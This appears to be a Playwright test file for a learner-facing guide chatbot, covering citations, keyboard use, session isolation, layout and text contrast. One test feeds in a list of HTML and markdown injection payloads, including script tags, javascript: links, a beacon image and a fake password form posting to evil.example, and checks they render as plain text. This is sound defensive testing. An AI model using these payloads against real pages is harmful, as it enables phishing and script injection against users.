"""The page in a browser: what a learner does, and what must never happen."""

import os
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from PIL import Image
from playwright.sync_api import Browser, expect

from tests.bot.app.visit import Visit, visiting

PICTURE = Path(__file__).parents[3] / "docs" / "page.png"
FIRST = "what should I learn first?"
NOT_THERE = "which visa do I need to work as a developer in Japan?"
INJECTIONS = [
    "<script>alert(1)</script><img src='http://evil.example/a.png' onerror='alert(1)'>",
    "![beacon](http://evil.example/b.png) [press](javascript:alert(1))",
    "</div><form action='http://evil.example'><input name='password'><button>Log in</button></form>",
    "<style>body{display:none}</style><iframe src='http://evil.example'></iframe>",
    "```mermaid\ngraph TD; A-->B\n```",
    "$$\\frac{1}{2}$$",
    ">" * 200 + "[" * 200,
]

CONTRAST = """() => {
  const parts = (colour) => colour.match(/[\\d.]+/g).map(Number);
  const channel = (value) => (value /= 255) <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4;
  const light = ([r, g, b]) => 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
  const behind = (element) => {
    for (let step = element; step; step = step.parentElement) {
      const colour = parts(getComputedStyle(step).backgroundColor);
      if (colour.length < 4 || colour[3] > 0) return colour;
    }
    return [255, 255, 255];
  };
  const faint = [];
  for (const element of document.querySelectorAll("main *")) {
    const has_text = [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim());
    if (!has_text || !element.checkVisibility({ opacityProperty: true })) continue;
    const [one, other] = [light(parts(getComputedStyle(element).color)), light(behind(element))];
    const ratio = (Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05);
    if (ratio < 4.5) faint.push(`${element.tagName}.${element.className}: ${ratio.toFixed(2)}`);
  }
  return faint;
}"""

pytestmark = pytest.mark.browser


@pytest.fixture
def visit(browser: Browser, address: str) -> Iterator[Visit]:
    """A fresh visit; whatever a test does, nothing may go wrong in the page or leave this machine."""
    with visiting(browser, address, viewport={"width": 1280, "height": 800}, color_scheme="light") as visit:
        yield visit


def test_from_a_question_to_the_place_in_the_guide(visit: Visit) -> None:
    """Ask, follow a marker, see the quoted words, read on in the guide."""
    expect(visit.page.get_by_role("textbox", name="Your question")).to_be_focused()
    visit.ask(FIRST)
    expect(visit.answer(1)).to_be_visible()
    expect(visit.page.get_by_role("textbox", name="Your question")).to_have_value("")
    visit.answer(1).get_by_role("link", name="Source 1", exact=True).click()
    source = visit.page.locator("#answer-1-source-1")
    quote = source.locator("mark").first
    expect(quote).to_be_focused()
    expect(quote).to_be_in_viewport()
    with visit.page.context.expect_page() as opened:
        source.get_by_role("link", name="Read it in the guide").click()
    guide = opened.value
    guide.wait_for_load_state()
    anchor = urlsplit(guide.url).fragment
    assert urlsplit(guide.url).path.startswith("/guides/")
    expect(guide.locator(f"#{anchor}")).to_be_in_viewport()


def test_a_marker_is_followed_by_keyboard_and_leads_back(visit: Visit) -> None:
    """Enter opens the source and moves there; its last link returns to the marker."""
    visit.ask(FIRST)
    marker = visit.answer(1).locator("a.marker").first
    marker.press("Enter")
    expect(visit.page.locator("#answer-1-source-1 mark").first).to_be_focused()
    visit.page.locator("#answer-1-source-1").get_by_role("link", name="Back to the answer").press("Enter")
    expect(marker).to_be_focused()


def test_markers_of_older_answers_still_work(visit: Visit) -> None:
    """Their sources come into the panel when they are asked for."""
    visit.ask(FIRST)
    expect(visit.answer(1)).to_be_visible()
    visit.ask("what is SQL for?")
    expect(visit.answer(2)).to_be_visible()
    expect(visit.page.locator("#answer-1-source-1")).to_have_count(0)
    visit.answer(1).locator("a.marker").first.click()
    expect(visit.page.locator("#answer-1-source-1 mark").first).to_be_visible()


def test_chips_ask_and_a_new_conversation_begins_again(visit: Visit) -> None:
    """Examples at first, suggestions after an answer, and back to the start."""
    examples = visit.page.locator("#log .example")
    expect(examples).to_have_count(6)
    words = examples.first.inner_text().strip()
    examples.first.click()
    expect(visit.answer(1)).to_be_visible()
    expect(visit.page.locator("#log .message-text")).to_have_text([words])
    suggestion = visit.page.locator("#log .option").first
    chosen = suggestion.inner_text().strip()
    suggestion.click()
    expect(visit.answer(2)).to_be_visible()
    expect(visit.page.locator("#log .message-text")).to_have_text([words, chosen])
    visit.page.get_by_role("button", name="New conversation").click()
    expect(examples).to_have_count(6)
    expect(visit.page.locator("#sources details")).to_have_count(0)


def test_what_is_not_in_the_guides_looks_different(visit: Visit) -> None:
    """A label, the nearest sections as links, and no source."""
    visit.ask(NOT_THERE)
    expect(visit.answer(1)).to_contain_text("Not in the guides")
    assert visit.answer(1).get_by_role("link").first.get_attribute("href").startswith("/guides/")
    expect(visit.page.locator("#sources details, #log a.marker")).to_have_count(0)


def test_what_a_learner_writes_stays_text(visit: Visit) -> None:
    """No dialog, no request, no form, no picture: the visit's own checks see the first two."""
    for number, message in enumerate(INJECTIONS, start=1):
        visit.ask(message)
        expect(visit.answer(number)).to_be_visible()
    shown = visit.page.locator("#log .message-text")
    assert [each.replace("\n", " ") for each in shown.all_text_contents()] == [
        each.replace("\n", " ") for each in INJECTIONS
    ]
    forbidden = "form, input, iframe, img, script, style, svg, .mermaid, .katex"
    expect(visit.page.locator("#log .message-content").locator(forbidden)).to_have_count(0)


def test_two_learners_do_not_see_each_other(visit: Visit, browser: Browser, address: str) -> None:
    """A conversation belongs to its browser session."""
    visit.ask(FIRST)
    expect(visit.answer(1)).to_be_visible()
    with browser.new_context() as context:
        other = Visit(context.new_page(), address)
        other.ask("what is SQL for?")
        expect(other.answer(1)).to_be_visible()
        expect(other.page.locator("#log .message-text")).to_have_text(["what is SQL for?"])


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("path", ["/", "/guides", "/guides/ai-ml"])
def test_a_small_screen_needs_no_sideways_scrolling(browser: Browser, address: str, scheme: str, path: str) -> None:
    """At 360 pixels, before and after an answer."""
    with browser.new_context(viewport={"width": 360, "height": 740}, color_scheme=scheme) as context:  # type: ignore[arg-type]
        visit = Visit(context.new_page(), address + path)
        if path == "/":
            visit.ask(FIRST)
            expect(visit.answer(1)).to_be_visible()
        assert visit.page.evaluate("document.documentElement.scrollWidth") <= 360


@pytest.mark.parametrize("width", [360, 780])
def test_a_wide_table_scrolls_by_itself(browser: Browser, address: str, width: int) -> None:
    """What holds it, the question box and the tabs stay within the screen, which hides what sticks out."""
    with visiting(browser, address, viewport={"width": width, "height": 740}) as visit:
        visit.ask("Compare web development and cybersecurity")
        expect(visit.answer(1).locator("table")).to_be_visible()
        right = "(boxes) => Math.max(...boxes.map((box) => box.getBoundingClientRect().right))"
        assert visit.page.locator("#talk, #log, #question, #tabs, .answer, .table-scroll").evaluate_all(right) <= width


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("question", ["", FIRST, NOT_THERE])
def test_all_text_can_be_read(browser: Browser, address: str, scheme: str, question: str) -> None:
    """Contrast of at least 4.5 to 1, by the colours that the browser computed."""
    with browser.new_context(color_scheme=scheme) as context:  # type: ignore[arg-type]
        visit = Visit(context.new_page(), address)
        if question:
            visit.ask(question)
            expect(visit.answer(1)).to_be_visible()
        expect(visit.page.get_by_role("tab", name="Sources")).to_be_visible()
        visit.page.add_style_tag(content="*{transition:none!important}")
        assert visit.page.evaluate(CONTRAST) == []


def test_the_readme_s_picture_is_made_of_the_page(visit: Visit, tmp_path: Path) -> None:
    """The picture is made, not painted; with `GUIDE_WRITE_PICTURE` set it takes the place of the README's."""
    visit.ask(FIRST)
    expect(visit.answer(1)).to_be_visible()
    visit.page.mouse.move(0, 0)
    visit.page.wait_for_timeout(500)
    picture = PICTURE if "GUIDE_WRITE_PICTURE" in os.environ else tmp_path / PICTURE.name
    shot = Image.open(BytesIO(visit.page.screenshot()))
    shot.convert("RGB").quantize(96).save(picture, optimize=True)
    assert picture.stat().st_size < 150_000
    with Image.open(PICTURE) as shown:
        assert shown.size == shot.size
